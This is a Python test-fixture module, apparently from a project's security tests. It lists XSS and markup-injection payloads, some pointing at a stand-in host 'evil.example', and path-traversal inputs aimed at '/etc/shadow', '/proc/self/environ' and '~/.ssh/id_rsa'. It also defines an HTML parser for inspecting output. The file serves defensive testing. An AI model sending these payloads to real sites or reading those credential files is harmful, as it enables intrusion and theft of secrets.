"""Texts that are more than text where they are not treated as data: markup, scripts, escapes, paths."""

from __future__ import annotations

from html.parser import HTMLParser

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=x>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "\x1b]0;owned\x07<b>x</b>",
    "\x1b[31mred\x1b[0m<i>",
)
PATHS = (
    "/etc/passwd",
    "/etc/hostname",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/mem",
    "/dev/zero",
    "../../../../etc/passwd",
    "{out}/../../etc/passwd",
    "{out}/env/../../../etc/passwd",
    "{out}//env",
    "{out}/./env",
    "{out}/env\x00.txt",
    "{out}/env\n",
    " {out}/env",
    "file://{out}/env",
    "{out}",
    "~/.ssh/id_rsa",
    "{home}/dibs.db",
    "..%2f..%2fetc%2fpasswd",
    "-n1 /etc/passwd",
)


class Seen(HTMLParser):
    """All elements and attributes of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, list[str]]] = []
        self.text = ""
        self.values: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, [name for name, _ in attrs]))
        self.values += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data
